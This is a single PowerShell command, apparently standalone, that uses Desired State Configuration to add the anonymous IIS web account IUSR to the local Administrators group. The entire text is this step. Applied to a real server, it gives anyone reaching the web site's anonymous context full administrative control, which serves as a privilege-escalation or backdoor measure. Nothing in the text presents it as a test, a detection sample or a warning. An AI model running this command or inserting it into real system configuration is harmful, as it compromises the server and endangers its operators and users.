Invoke-DscResource -Name Group -Method Set -ModuleName PSDesiredStateConfiguration -Property @{ GroupName='Administrators'; MembersToInclude=@('IUSR') }
